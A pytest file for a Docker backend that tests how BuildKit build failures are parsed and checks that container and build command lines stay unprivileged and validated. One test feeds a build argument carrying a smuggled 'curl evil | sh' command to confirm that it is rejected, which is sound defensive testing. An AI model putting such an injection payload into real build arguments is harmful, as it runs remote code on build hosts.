"""docker.commands: the `docker create` / `docker build` argument lists, and reading BuildKit's output."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from stackfarm.backends import docker as dk
from stackfarm.backends.docker import ContainerSpec, DockerError, Mount
from test_docker_support import CELL

# -- reading the engine's output -----------------------------------------------------------------------------

# Plain progress of a failed RUN, as BuildKit inside docker 20.10 prints it (trimmed from a real build).
BUILDKIT_20_10 = """\
#4 [1/2] FROM docker.io/library/stackfarm-base:bookworm
#4 sha256:74ca8695aea015339b00ef62a6f2609a16f4386bd07fb0cd2598bcf4159d4ea7
#4 CACHED

#5 [torch 1/1] RUN python -m pip install --no-deps --require-hashes -r /tmp/stackfarm/torch/requirements.txt
#5 sha256:3bcac932073e9ec4d072511126f78f97ca6e7fa0ef61590502edd53208687d26
#5 0.615 Collecting torch@ https://files.pythonhosted.org/torch-2.9.1.whl
#5 0.243 ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE.
#5 0.243     torch@ https://files.pythonhosted.org/torch-2.9.1.whl:
#5 ERROR: executor failed running [/bin/sh -c python -m pip install]: exit code: 1
------
 > [torch 1/1] RUN python -m pip install --no-deps --require-hashes -r /tmp/stackfarm/torch/requirements.txt:
------
executor failed running [/bin/sh -c python -m pip install]: exit code: 1
"""

# The same failure as newer BuildKit (buildx) prints it: the step's lines repeated without the "#N" prefix.
BUILDKIT_BUILDX = """\
#7 [kernels 1/1] RUN python -m pip install -r /tmp/stackfarm/kernels/requirements.txt
#7 1.20 Collecting sgl-kernel@ https://files.pythonhosted.org/sgl_kernel.whl
#7 9.80 OSError: [Errno 28] No space left on device
#7 ERROR: process "/bin/sh -c python -m pip install" did not complete successfully: exit code: 1
------
 > [kernels 1/1] RUN python -m pip install -r /tmp/stackfarm/kernels/requirements.txt:
9.80 OSError: [Errno 28] No space left on device
------
ERROR: failed to solve: process "/bin/sh -c python -m pip install" did not complete successfully: exit code: 1
"""


def test_build_failure_names_the_step_and_its_last_lines() -> None:
    failure = dk.parse_build_failure(BUILDKIT_20_10)
    assert failure.step.startswith("[torch 1/1] RUN python -m pip install")
    assert failure.reason == "executor failed running [/bin/sh -c python -m pip install]: exit code: 1"
    assert failure.tail[-2:] == (
        "ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE.",
        "    torch@ https://files.pythonhosted.org/torch-2.9.1.whl:",
    )
    assert not failure.disk_full


def test_build_failure_sees_a_full_disk() -> None:
    failure = dk.parse_build_failure(BUILDKIT_BUILDX)
    assert failure.step.startswith("[kernels 1/1]")
    assert failure.tail[-1] == "OSError: [Errno 28] No space left on device"
    assert failure.disk_full


def test_build_failure_before_any_step_keeps_the_engine_message() -> None:
    failure = dk.parse_build_failure(
        "#1 [internal] load build definition\nERROR: failed to read dockerfile\n"
    )
    assert failure.step == "(before any build step)"
    assert failure.reason == "ERROR: failed to read dockerfile"


def test_loaded_image_names() -> None:
    assert dk.parse_loaded_image("Loaded image: stackfarm-base:bookworm\n") == "stackfarm-base:bookworm"
    assert dk.parse_loaded_image("Loaded image ID: sha256:abc\n") == "sha256:abc"
    assert dk.parse_loaded_image("nothing\n") is None


# -- command lines -------------------------------------------------------------------------------------------


def _run_spec(**changes: object) -> ContainerSpec:
    spec = ContainerSpec(
        image=f"stackfarm/{CELL}:0123456789abcdef",
        argv=("python", "-m", "pytest", "/stackfarm/project/suites/00-stack"),
        mounts=(Mount(source=Path("/work/main"), target="/stackfarm/project"),),
        env=(("STACKFARM_CELL", "/stackfarm/run/cell.json"),),
        ulimits=(("memlock", "-1"), ("stack", "67108864")),
        shm_size="16g",
    )
    return dataclasses.replace(spec, **changes)  # type: ignore[arg-type]


def test_cpu_run_gets_a_private_shm_and_no_gpu_flags() -> None:
    argv = dk.create_argv("docker", _run_spec(), "c1")
    assert argv[:3] == ["docker", "create", "--name"]
    assert "--gpus" not in argv
    assert "--ipc=host" not in argv
    assert "--ulimit" not in argv
    assert argv[argv.index("--shm-size") + 1] == "16g"
    assert "type=bind,source=/work/main,target=/stackfarm/project,readonly" in argv
    assert argv[-5:] == [
        f"stackfarm/{CELL}:0123456789abcdef",
        "python",
        "-m",
        "pytest",
        "/stackfarm/project/suites/00-stack",
    ]


def test_gpu_run_gets_gpus_host_ipc_and_ulimits() -> None:
    argv = dk.create_argv("docker", _run_spec(gpus=True), "c1")
    assert argv[argv.index("--gpus") + 1] == "all"
    assert "--ipc=host" in argv
    assert "--shm-size" not in argv
    assert [argv[i + 1] for i, a in enumerate(argv) if a == "--ulimit"] == ["memlock=-1", "stack=67108864"]
    private = dk.create_argv("docker", _run_spec(gpus=True, ipc_host=False), "c1")
    assert "--ipc=host" not in private
    assert private[private.index("--shm-size") + 1] == "16g"


def test_runs_are_never_privileged_and_never_see_the_engine() -> None:
    argv = dk.create_argv("docker", _run_spec(gpus=True, user="1000:1000"), "c1")
    assert "--privileged" not in argv
    assert not any("docker.sock" in a for a in argv)
    assert argv[argv.index("--security-opt") + 1] == "no-new-privileges"
    assert argv[argv.index("--user") + 1] == "1000:1000"
    with pytest.raises(DockerError, match="comma"):
        dk.create_argv("docker", _run_spec(mounts=(Mount(source=Path("/a,b"), target="/x"),)), "c1")
    with pytest.raises(DockerError, match="uid"):
        dk.create_argv("docker", _run_spec(user="root"), "c1")


def test_build_command_is_a_list_with_validated_args_and_secrets() -> None:
    argv = dk.build_argv(
        "docker",
        dockerfile=Path("/r/docker/Dockerfile"),
        context=Path("/c"),
        tag=f"stackfarm/{CELL}:0123456789abcdef",
        build_args={"BASE": "stackfarm-base:bookworm", "PYTHON": "3.11"},
        labels={dk.LABEL_CELL: CELL},
        secrets={"netrc": Path("/home/u/.netrc")},
    )
    assert argv[:3] == ["docker", "build", "--progress=plain"]
    assert argv[argv.index("PYTHON=3.11") - 1 : argv.index("PYTHON=3.11") + 1] == [
        "--build-arg",
        "PYTHON=3.11",
    ]
    assert "id=netrc,src=/home/u/.netrc" in argv
    assert argv[-1] == "/c"
    assert not any("token" in a or "password" in a.lower() for a in argv)
    with pytest.raises(DockerError):
        dk.build_argv(
            "docker",
            dockerfile=Path("/d"),
            context=Path("/c"),
            tag="t:1",
            build_args={"PYTHON": "3.11 && curl evil | sh"},
            labels={},
        )
